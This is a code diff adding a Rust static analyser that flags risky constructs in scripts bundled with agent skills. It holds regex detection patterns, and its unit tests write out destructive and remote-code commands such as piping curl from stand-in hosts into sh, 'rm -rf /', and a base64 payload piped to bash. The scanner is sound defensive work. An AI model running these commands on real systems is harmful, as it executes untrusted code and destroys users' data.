@@ -0,0 +1,395 @@
+//! Static risk analysis of scripts bundled with skills
+//!
+//! sikil never executes skill scripts, but agents will happily run
+//! `scripts/*.sh` on the user's behalf. This module inventories a skill's
+//! scripts (anything under `scripts/`, plus executable or shebang files
+//! elsewhere) and flags risky constructs line by line so reviewers can
+//! triage third-party skills before installing them.
+
+use once_cell::sync::Lazy;
+use regex::Regex;
+use serde::Serialize;
+use std::path::Path;
+use walkdir::WalkDir;
+
+/// Files larger than this are inventoried but not analyzed
+const MAX_ANALYZE_SIZE: u64 = 1_048_576;
+
+/// Risk level of a script construct
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum RiskLevel {
+    /// Worth knowing about (network access, eval)
+    Low,
+    /// Needs review (sudo, writes outside the working directory)
+    Medium,
+    /// Likely dangerous (remote code execution, destructive deletes)
+    High,
+}
+
+impl std::fmt::Display for RiskLevel {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let s = match self {
+            RiskLevel::Low => "low",
+            RiskLevel::Medium => "medium",
+            RiskLevel::High => "high",
+        };
+        write!(f, "{}", s)
+    }
+}
+
+/// A risky construct found in a script
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct ScriptRisk {
+    /// Stable identifier of the construct (e.g. "pipe-to-shell")
+    pub id: &'static str,
+    /// Risk level
+    pub level: RiskLevel,
+    /// 1-based line number
+    pub line: usize,
+    /// What the construct does
+    pub description: &'static str,
+    /// The offending line, trimmed and truncated
+    pub excerpt: String,
+}
+
+/// Inventory entry for one script
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct ScriptInfo {
+    /// Path relative to the skill directory, with `/` separators
+    pub path: String,
+    /// Shebang line without the leading `#!`, if present
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub shebang: Option<String>,
+    /// Whether the file has an executable permission bit (always false on Windows)
+    pub executable: bool,
+    /// Risky constructs, in line order
+    pub risks: Vec<ScriptRisk>,
+}
+
+impl ScriptInfo {
+    /// Returns the highest risk level in this script, if any
+    pub fn max_level(&self) -> Option<RiskLevel> {
+        self.risks.iter().map(|r| r.level).max()
+    }
+}
+
+struct RiskPattern {
+    id: &'static str,
+    level: RiskLevel,
+    description: &'static str,
+    regex: Regex,
+    /// IDs of patterns that make this one redundant on the same line
+    superseded_by: &'static [&'static str],
+}
+
+static RISK_PATTERNS: Lazy<Vec<RiskPattern>> = Lazy::new(|| {
+    let pattern = |id, level, description, re: &str, superseded_by| RiskPattern {
+        id,
+        level,
+        description,
+        regex: Regex::new(re).unwrap(),
+        superseded_by,
+    };
+    vec![
+        pattern(
+            "pipe-to-shell",
+            RiskLevel::High,
+            "downloads code and pipes it into an interpreter",
+            r"\b(?:curl|wget|fetch)\b[^|\n]*\|\s*(?:sudo\s+)?(?:sh|bash|zsh|dash|ksh|python3?|perl|ruby|node)\b",
+            &[],
+        ),
+        pattern(
+            "destructive-rm",
+            RiskLevel::High,
+            "recursively deletes the root or home directory",
+            r#"\brm\s+(?:-[A-Za-z]*[rR][A-Za-z]*\s+)(?:-[A-Za-z-]+\s+)*["']?(?:/\*?|~/?\*?|\$HOME/?\*?|\$\{HOME\}/?\*?)["']?(?:\s|;|&|\||$)"#,
+            &[],
+        ),
+        pattern(
+            "encoded-payload",
+            RiskLevel::High,
+            "decodes and executes an encoded payload",
+            r"(?:base64\s+(?:-d|--decode|-D)\b.*\|\s*(?:sh|bash|zsh|python3?|perl)\b)|(?:\beval\b.*base64)|(?:\bexec\s*\(.*b64decode)",
+            &[],
+        ),
+        pattern(
+            "base64-decode",
+            RiskLevel::Medium,
+            "decodes base64 data, which can hide payloads",
+            r"(?:base64\s+(?:-d|--decode|-D)\b)|(?:b64decode\s*\()",
+            &["encoded-payload"],
+        ),
+        pattern(
+            "privilege-escalation",
+            RiskLevel::Medium,
+            "runs commands with elevated privileges",
+            r"(?:^|[;&|(`]|\s)(?:sudo|doas)\s",
+            &[],
+        ),
+        pattern(
+            "write-outside-cwd",
+            RiskLevel::Medium,
+            "writes to an absolute or home-relative path",
+            r#"(?:>>?\s*|\btee\s+(?:-a\s+)?)["']?((?:/|~|\$HOME|\$\{HOME\})[^\s"';|&]*)"#,
+            &[],
+        ),
+        pattern(
+            "world-writable",
+            RiskLevel::Medium,
+            "makes files writable by every user",
+            r"\bchmod\s+(?:-R\s+)?(?:0?777|a\+w|o\+w)\b",
+            &[],
+        ),
+        pattern(
+            "dynamic-eval",
+            RiskLevel::Low,
+            "evaluates dynamically built code",
+            r"(?:^|[;&|\s])eval\s",
+            &["encoded-payload"],
+        ),
+        pattern(
+            "network-access",
+            RiskLevel::Low,
+            "accesses the network",
+            r"\b(?:curl|wget|nc|ncat|scp|rsync)\s|\brequests\.(?:get|post)\b|\burllib\.request\b",
+            &["pipe-to-shell"],
+        ),
+    ]
+});
+
+/// Analyzes script content line by line
+///
+/// Comment lines (`#` or `//`) are skipped, except for the shebang.
+pub fn analyze_script(content: &str) -> Vec<ScriptRisk> {
+    let mut risks = Vec::new();
+
+    for (index, line) in content.lines().enumerate() {
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with("//") {
+            continue;
+        }
+
+        let mut matched: Vec<&'static str> = Vec::new();
+        for pattern in RISK_PATTERNS.iter() {
+            let Some(cap) = pattern.regex.captures(line) else {
+                continue;
+            };
+            // Redirects to the standard device files are harmless
+            if pattern.id == "write-outside-cwd"
+                && cap.get(1).is_some_and(|m| m.as_str().starts_with("/dev/"))
+            {
+                continue;
+            }
+            if pattern.superseded_by.iter().any(|id| matched.contains(id)) {
+                continue;
+            }
+            matched.push(pattern.id);
+            risks.push(ScriptRisk {
+                id: pattern.id,
+                level: pattern.level,
+                line: index + 1,
+                description: pattern.description,
+                excerpt: excerpt(trimmed),
+            });
+        }
+    }
+
+    risks
+}
+
+/// Inventories and analyzes every script in a skill directory
+///
+/// Scripts are files under `scripts/`, plus files anywhere else (except
+/// SKILL.md) that start with a shebang or have an executable bit. Hidden
+/// directories are skipped and symlinks are not followed. Results are sorted
+/// by path.
+pub fn inventory_scripts(skill_dir: &Path) -> Vec<ScriptInfo> {
+    let walker = WalkDir::new(skill_dir)
+        .follow_links(false)
+        .sort_by_file_name()
+        .into_iter()
+        .filter_entry(|e| {
+            e.depth() == 0
+                || !(e.file_type().is_dir() && e.file_name().to_string_lossy().starts_with('.'))
+        });
+
+    let mut scripts = Vec::new();
+    for entry in walker.filter_map(|e| e.ok()) {
+        if !entry.file_type().is_file() {
+            continue;
+        }
+        let Ok(relative) = entry.path().strip_prefix(skill_dir) else {
+            continue;
+        };
+        if relative == Path::new("SKILL.md") {
+            continue;
+        }
+
+        let executable = is_executable(entry.path());
+        let size = entry.metadata().map(|m| m.len()).unwrap_or(0);
+        let content = if size <= MAX_ANALYZE_SIZE {
+            std::fs::read(entry.path())
+                .ok()
+                .filter(|bytes| !bytes.iter().take(8192).any(|&b| b == 0))
+                .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
+        } else {
+            None
+        };
+        let shebang = content
+            .as_deref()
+            .and_then(|c| c.lines().next())
+            .and_then(|l| l.strip_prefix("#!"))
+            .map(|s| s.trim().to_string());
+
+        if !(relative.starts_with("scripts") || executable || shebang.is_some()) {
+            continue;
+        }
+
+        scripts.push(ScriptInfo {
+            path: relative.to_string_lossy().replace('\\', "/"),
+            shebang,
+            executable,
+            risks: content.as_deref().map(analyze_script).unwrap_or_default(),
+        });
+    }
+
+    scripts
+}
+
+fn excerpt(line: &str) -> String {
+    const MAX: usize = 80;
+    if line.chars().count() <= MAX {
+        line.to_string()
+    } else {
+        let truncated: String = line.chars().take(MAX).collect();
+        format!("{}…", truncated)
+    }
+}
+
+#[cfg(unix)]
+fn is_executable(path: &Path) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path)
+        .map(|m| m.permissions().mode() & 0o111 != 0)
+        .unwrap_or(false)
+}
+
+#[cfg(not(unix))]
+fn is_executable(_path: &Path) -> bool {
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+    use tempfile::TempDir;
+
+    fn ids(content: &str) -> Vec<&'static str> {
+        analyze_script(content).into_iter().map(|r| r.id).collect()
+    }
+
+    #[test]
+    fn test_pipe_to_shell_supersedes_network_access() {
+        assert_eq!(
+            ids("curl -fsSL https://example.com/install.sh | sh"),
+            vec!["pipe-to-shell"]
+        );
+        assert_eq!(
+            ids("wget -qO- https://x.io/i | sudo bash"),
+            vec!["pipe-to-shell", "privilege-escalation"]
+        );
+        assert_eq!(ids("curl -o out.json https://api"), vec!["network-access"]);
+    }
+
+    #[test]
+    fn test_destructive_rm() {
+        assert_eq!(ids("rm -rf /"), vec!["destructive-rm"]);
+        assert_eq!(ids("rm -fr ~/"), vec!["destructive-rm"]);
+        assert_eq!(
+            ids("sudo rm -rf --no-preserve-root /"),
+            vec!["destructive-rm", "privilege-escalation"]
+        );
+        assert_eq!(ids("rm -rf \"$HOME\""), vec!["destructive-rm"]);
+        assert!(ids("rm -rf ./build").is_empty());
+        assert!(ids("rm -rf /tmp/sikil-build").is_empty());
+    }
+
+    #[test]
+    fn test_encoded_payload() {
+        assert_eq!(ids("echo aGk= | base64 -d | bash"), vec!["encoded-payload"]);
+        assert_eq!(
+            ids("eval \"$(echo aGk= | base64 --decode)\""),
+            vec!["encoded-payload"]
+        );
+        assert_eq!(ids("base64 -d data.b64 > data.bin"), vec!["base64-decode"]);
+    }
+
+    #[test]
+    fn test_write_outside_cwd() {
+        assert_eq!(ids("echo x >> ~/.bashrc"), vec!["write-outside-cwd"]);
+        assert_eq!(ids("echo x | tee /etc/hosts"), vec!["write-outside-cwd"]);
+        assert!(ids("echo x > /dev/null 2>&1").is_empty());
+        assert!(ids("echo x > out.txt").is_empty());
+    }
+
+    #[test]
+    fn test_comments_are_skipped() {
+        assert!(ids("# curl https://x | sh\n// sudo rm -rf /").is_empty());
+    }
+
+    #[test]
+    fn test_line_numbers_and_levels() {
+        let risks = analyze_script("#!/bin/bash\nset -e\nsudo apt-get install jq\nchmod 777 out\n");
+        assert_eq!(risks.len(), 2);
+        assert_eq!(risks[0].line, 3);
+        assert_eq!(risks[0].level, RiskLevel::Medium);
+        assert_eq!(risks[1].id, "world-writable");
+    }
+
+    #[test]
+    fn test_inventory_scripts() {
+        let temp_dir = TempDir::new().unwrap();
+        let dir = temp_dir.path();
+        fs::create_dir_all(dir.join("scripts")).unwrap();
+        fs::create_dir_all(dir.join("references")).unwrap();
+        fs::write(dir.join("SKILL.md"), "#!/bin/sh\n").unwrap();
+        fs::write(
+            dir.join("scripts/install.sh"),
+            "#!/usr/bin/env bash\ncurl https://x.io/i | sh\n",
+        )
+        .unwrap();
+        fs::write(dir.join("scripts/data.json"), "{}").unwrap();
+        fs::write(dir.join("references/api.md"), "# API").unwrap();
+        fs::write(dir.join("tool.py"), "#!/usr/bin/env python3\nprint(1)\n").unwrap();
+
+        let scripts = inventory_scripts(dir);
+        let paths: Vec<&str> = scripts.iter().map(|s| s.path.as_str()).collect();
+        assert_eq!(
+            paths,
+            vec!["scripts/data.json", "scripts/install.sh", "tool.py"]
+        );
+
+        let install = &scripts[1];
+        assert_eq!(install.shebang.as_deref(), Some("/usr/bin/env bash"));
+        assert_eq!(install.max_level(), Some(RiskLevel::High));
+        assert_eq!(scripts[0].max_level(), None);
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_inventory_detects_executable_bit() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let temp_dir = TempDir::new().unwrap();
+        let tool = temp_dir.path().join("run");
+        fs::write(&tool, "echo hi\n").unwrap();
+        fs::set_permissions(&tool, fs::Permissions::from_mode(0o755)).unwrap();
+
+        let scripts = inventory_scripts(temp_dir.path());
+        assert_eq!(scripts.len(), 1);
+        assert!(scripts[0].executable);
+        assert!(scripts[0].shebang.is_none());
+    }
+}